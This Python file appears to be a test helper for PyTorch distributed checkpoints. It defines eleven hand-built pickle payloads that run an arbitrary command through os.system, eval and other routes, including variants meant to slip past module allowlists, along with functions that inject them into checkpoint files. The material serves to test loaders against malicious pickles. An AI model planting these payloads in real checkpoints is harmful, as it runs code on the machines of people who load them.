"""Pickles that run a command, and ``torch_dist`` folders with a pickle put into one place or another."""

from __future__ import annotations

import io
import pickle
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import torch
from torch.distributed.checkpoint.filesystem import _StorageInfo
from torch.distributed.checkpoint.metadata import BytesStorageMetadata, Metadata, MetadataIndex
from torch_dist_by_hand import edit


def short(text: str) -> bytes:
    """A string, as protocol 4 has it."""
    return b"\x8c" + bytes([len(text)]) + text.encode()


def named(module: str, name: str) -> bytes:
    return b"\x80\x04" + short(module) + short(name) + b"\x93"


# each runs a command of less than 256 characters when Python's own pickle reads it, and leaves nothing on the stack
ATTACKS: dict[str, Callable[[str], bytes]] = {
    "by name": lambda c: b"cos\nsystem\n(V" + c.encode() + b"\ntR0",
    "by its other name": lambda c: b"cposix\nsystem\n(V" + c.encode() + b"\ntR0",
    "by a name on the stack": lambda c: named("os", "system") + short(c) + b"\x85R0",
    "by attributes of an allowed module": lambda c: (
        named("torch.distributed.checkpoint.metadata", "os.system") + short(c) + b"\x85R0"
    ),
    "as an instance": lambda c: b"(V" + c.encode() + b"\nios\nsystem\n0",
    "as an object": lambda c: b"(cos\nsystem\nV" + c.encode() + b"\no0",
    "evaluated": lambda c: b"cbuiltins\neval\n(V__import__('os').system('" + c.encode() + b"')\ntR0",
    "in a partial": lambda c: b"cfunctools\npartial\n(cos\nsystem\nV" + c.encode() + b"\ntR(tR0",
    "by a function of torch": lambda c: b"ctorch.utils.collect_env\nrun\n(V" + c.encode() + b"\ntR0",
    "from the memo": lambda c: b"cos\nsystem\nq\xc8(V" + c.encode() + b"\ntq\xc90h\xc8h\xc9R00",
    "as a new object": lambda c: (
        b"\x80\x02ccollections\nOrderedDict\n)\x81(V" + c.encode() + b"\ncos\nsystem\nV" + c.encode() + b"\n\x85Ru0"
    ),
}  # fmt: skip


def saved(content: Any, prefix: bytes = b"") -> bytes:
    """What ``torch.save`` writes of an object, whose pickle begins with ``prefix``."""
    out, plain = io.BytesIO(), io.BytesIO()
    torch.save(content, plain)
    with zipfile.ZipFile(plain) as source, zipfile.ZipFile(out, "w") as target:
        for name in source.namelist():
            target.writestr(name, (prefix if name.endswith("data.pkl") else b"") + source.read(name))
    return out.getvalue()


def put_object(folder: Path, key: str, data: bytes) -> None:
    """Let an object of a folder be another one."""
    where = _append(folder, data)

    def change(metadata: Metadata) -> None:
        metadata.state_dict_metadata[key] = BytesStorageMetadata()
        metadata.storage_data[MetadataIndex(key)] = where

    edit(folder, change)


def put_tensor(folder: Path, prefix: bytes) -> str:
    """Let the pickle of a tensor's first chunk begin with ``prefix``."""
    metadata = pickle.loads((folder / ".metadata").read_bytes())
    index = next(i for i in metadata.storage_data if i.fqn == "embedding.word_embeddings.weight")
    place = metadata.storage_data[index]
    with open(folder / place.relative_path, "rb") as f:
        f.seek(place.offset)
        tensor = torch.load(io.BytesIO(f.read(place.length)))
    where = _append(folder, saved(tensor, prefix))
    edit(folder, lambda m: m.storage_data.update({index: where}))
    return index.fqn


def put_metadata(folder: Path, prefix: bytes) -> None:
    file = folder / ".metadata"
    file.write_bytes(prefix + file.read_bytes())


def _append(folder: Path, data: bytes) -> _StorageInfo:
    file = sorted(folder.glob("*.distcp"))[0]
    start = file.stat().st_size
    with file.open("ab") as f:
        f.write(data)
    return _StorageInfo(file.name, start, len(data))
